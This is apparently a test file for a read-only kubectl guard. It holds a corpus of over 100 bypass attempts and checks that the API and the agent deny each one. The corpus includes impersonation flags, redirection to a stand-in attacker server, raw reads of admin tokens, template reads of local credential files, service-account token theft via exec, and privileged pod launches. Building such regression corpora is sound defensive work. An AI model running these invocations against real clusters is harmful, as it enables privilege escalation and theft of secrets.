/**
 * A corpus of attempts to get a write, an escape, credentials or Secret data
 * past a "read-only kubectl" guard, drawn from how similar tools were bypassed
 * (flag smuggling, impersonation, raw API paths, output templates reading
 * local files, plugins from PATH, verbosity dumping bodies, alias spellings of
 * secrets). Every one is denied at the API over HTTP and, sent straight to the
 * agent past an API with no policies, refused by the agent itself.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { memoryBackend } from "../../adapters/memory/index.ts";
import { echoExecutor } from "../../lib/agent/executors.ts";
import { createKubently, type Kubently } from "../../lib/kubently.ts";
import { readOnly } from "../../plugins/read-only.ts";

export const BYPASS_CORPUS: string[][] = [
  // Impersonation and credential flags (privilege escalation through the guard's own identity).
  ["get", "pods", "--as=system:masters"],
  ["get", "pods", "--as", "system:admin"],
  ["get", "pods", "--as-group=system:masters"],
  ["get", "pods", "--as-uid=0"],
  ["get", "pods", "--token=eyJhbGciOi"],
  ["get", "pods", "--kubeconfig=/etc/kubernetes/admin.conf"],
  ["get", "pods", "--context=prod-admin"],
  ["get", "pods", "--user=cluster-admin"],
  ["get", "pods", "--cluster=other"],
  ["get", "pods", "-s", "https://attacker.example"],
  ["get", "pods", "--server=https://attacker.example"],
  ["get", "pods", "--server_=https://attacker.example"],
  ["get", "pods", "--insecure-skip-tls-verify"],
  ["get", "pods", "--insecure_skip_tls_verify=true"],
  ["get", "pods", "--certificate-authority=/tmp/ca"],
  ["get", "pods", "--client-key=/var/run/secrets/key"],
  ["get", "pods", "--username=admin", "--password=x"],
  ["get", "pods", "--cache-dir=/tmp/poison"],
  ["get", "pods", "--profile=cpu", "--profile-output=/etc/passwd"],
  // Flag smuggling: a flag where a value or a resource name should be.
  ["get", "--server=https://x", "pods"],
  ["get", "pods", "--", "--server=https://x"],
  ["-n", "get", "delete", "pod", "x"],
  ["--namespace=default", "delete", "pod", "x"],
  ["get", "pods", "-l", "--server=https://x"],
  ["get", "pods", "-n", "--as=system:masters"],
  // Raw API paths and file or kustomize input.
  ["get", "--raw", "/api/v1/namespaces/kube-system/secrets/admin-token"],
  ["get", "--raw=/api/v1/secrets"],
  ["get", "-f", "/etc/kubernetes/manifests/kube-apiserver.yaml"],
  ["get", "--filename=/etc/passwd"],
  ["get", "-k", "."],
  ["describe", "-f", "/etc/shadow"],
  // Output formats that kubectl's own template engine renders or that read local files (jsonpath and
  // custom-columns pass: Kubently evaluates them on redacted objects, test/unit/template-outputs.test.ts).
  ["get", "pods", "-o", "go-template={{.}}"],
  ["get", "pods", "-o=jsonpath-file=/etc/passwd"],
  ["get", "pods", "-o", "custom-columns-file=/etc/passwd"],
  ["get", "pods", "-o", "template", "--template={{.}}"],
  ["get", "pods", "--template={{.}}"],
  ["get", "pods", "-o", "go-template-file=/root/.kube/config"],
  // Verbosity high enough to log request and response bodies (Secrets included).
  ["get", "pods", "-v=9"],
  ["get", "pods", "--v=10"],
  ["get", "pods", "-v", "8"],
  ["logs", "web-1", "--v=6"],
  // Secret values by every spelling and printer. Tables, `-o name` and describe of Secrets pass
  // (metadata only: test/unit/secret-metadata.test.ts); anything that could print a value does not.
  ["get", "secrets", "-o", "yaml", "-A"],
  ["get", "secret", "db-credentials", "-o", "json"],
  ["get", "Secret/db-credentials", "-ojson"],
  ["get", "secrets.v1./db-credentials", "--output=yaml"],
  ["get", "SECRETS", "-A", "-o=yaml"],
  ["get", "secrets.", "-Aoyaml"],
  ["get", "pods,secrets", "-A", "-o", "json"],
  ["get", "configmaps,secrets", "-n", "shop", "-o", "yaml"],
  ["get", "cm", "x", "secret/db-credentials", "-o", "yaml"],
  ["get", "secrets", "-w", "-o", "json", "--output-watch-events"],
  ["get", "secrets", "--watch-only", "-o", "yaml"],
  ["get", "secret", "db-credentials", "-o", "jsonpath={.data.password}"],
  ["get", "secret", "db-credentials", "-o", "go-template={{.data.password | base64decode}}"],
  ["get", "secrets", "-o", "custom-columns=NAME:.metadata.name,DATA:.data"],
  ["get", "secrets", "--template={{range .items}}{{.data}}{{end}}"],
  ["get", "secrets", "-o", "jsonpath-file=/tmp/x"],
  ["get", "secrets", "--sort-by=.data.password"],
  ["get", "secrets", "--sort-by", "{.metadata.annotations.kubectl\\.kubernetes\\.io/last-applied-configuration}"],
  ["get", "secrets", "-v=9"],
  ["get", "secret.v1", "-A"],
  ["get", "secrets.v1.mycompany.io"],
  ["describe", "secret/admin-token", "-o", "yaml"],
  ["events", "--for", "secret/db-credentials"],
  ["logs", "secret/db-credentials"],
  ["rollout", "status", "secret/db-credentials"],
  ["rollout", "history", "secret/db-credentials", "-o", "yaml"],
  // Writes and escapes.
  ["delete", "pod", "web-1"],
  ["apply", "-f", "-"],
  ["edit", "deployment", "web"],
  ["patch", "deployment", "web", "-p", "{}"],
  ["scale", "deployment", "web", "--replicas=0"],
  ["label", "pod", "web-1", "x=y"],
  ["annotate", "pod", "web-1", "x=y"],
  ["create", "secret", "generic", "x"],
  ["replace", "-f", "x.yaml"],
  ["set", "image", "deployment/web", "web=evil"],
  ["cordon", "node-1"],
  ["drain", "node-1"],
  ["taint", "nodes", "node-1", "k=v:NoSchedule"],
  ["exec", "web-1", "--", "sh"],
  ["exec", "-it", "web-1", "--", "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
  ["cp", "web-1:/etc/shadow", "/tmp/x"],
  ["attach", "web-1"],
  ["port-forward", "svc/db", "5432"],
  ["proxy", "--port=8001"],
  ["debug", "node/node-1", "-it", "--image=busybox"],
  ["run", "x", "--image=busybox", "--overrides={\"spec\":{\"hostPID\":true}}"],
  ["run", "pwn", "--image=alpine", "--restart=Never", "--", "sh"],
  ["rollout", "restart", "deployment/web"],
  ["rollout", "undo", "deployment/web"],
  ["auth", "reconcile", "-f", "rbac.yaml"],
  ["certificate", "approve", "csr-1"],
  ["cluster-info", "dump"],
  ["config", "view", "--raw"],
  ["config", "use-context", "admin"],
  ["plugin", "list"],
  // kubectl plugins run kubectl-<verb> from PATH.
  ["krew", "install", "x"],
  ["node-shell", "node-1"],
  ["my-plugin"],
  // Hostile text.
  ["get", "pods\u0000", "-A"],
  ["get", "pods", "-n", "shop\nkube-system"],
  ["get", "pods", "\u001b[2J"],
  ["get", ...Array.from({ length: 70 }, () => "pods")],
  ["get", "pods", "x".repeat(2_000)],
  [],
  // Load amplification: one list as a single giant request, or a follow opening hundreds of log streams.
  ["get", "pods", "-A", "--chunk-size=0"],
  ["events", "-A", "--chunk-size", "1"],
  ["logs", "-f", "-l", "app=web", "--all-containers", "--max-log-requests=500"],
  ["logs", "-f", "-l", "app=web", "--max-log-requests", "6"],
];

let api: Kubently;
let url: string;
let open: Kubently;
const KEY = "corpus-key-0123456789abcdef";

beforeAll(async () => {
  api = createKubently({ backend: memoryBackend(), policies: [readOnly()], apiKeys: [{ name: "t", key: KEY }], clusters: [{ id: "c1" }] });
  await api.ready();
  url = (await api.listen({ port: 0 })).url;
  api.startLocalAgent({ clusterId: "c1", executor: echoExecutor() });
  // An API that checks nothing: only the agent's own policy stands between the caller and kubectl.
  open = createKubently({ backend: memoryBackend(), policies: [], clusters: [{ id: "c1" }] });
  await open.ready();
  open.startLocalAgent({ clusterId: "c1", executor: echoExecutor(), policies: [readOnly()] });
});
afterAll(async () => {
  await api.close();
  await open.close();
});

describe("bypass corpus", () => {
  test(`has at least 60 attempts (${BYPASS_CORPUS.length})`, () => {
    expect(BYPASS_CORPUS.length).toBeGreaterThanOrEqual(60);
  });

  test("every attempt is denied at the API with the read-only rule, over HTTP", async () => {
    for (const argv of BYPASS_CORPUS) {
      const res = await fetch(`${url}/debug/execute`, { method: "POST", headers: { "x-api-key": KEY, "content-type": "application/json" }, body: JSON.stringify({ cluster_id: "c1", argv }) });
      const body = await res.json();
      if (argv.length === 0) {
        expect(res.status).toBe(400); // argv must not be empty: a validation error before any policy
        continue;
      }
      expect({ argv, status: res.status, result: body.status, policy: body.policy }).toEqual({ argv, status: 403, result: "denied", policy: "read-only" });
    }
  });

  test("every attempt sent straight to the agent is refused by the agent", async () => {
    const admin = { kind: "admin", name: "admin", keyId: "t", role: "admin" } as const;
    for (const argv of BYPASS_CORPUS) {
      const out = await open.services.execute.execute(admin, { clusterId: "c1", argv });
      expect({ argv, status: out.result?.status as string | undefined, code: out.result?.code, output: out.result?.output }).toEqual({ argv, status: "denied", code: "AGENT_REFUSED", output: "" });
    }
  });
});
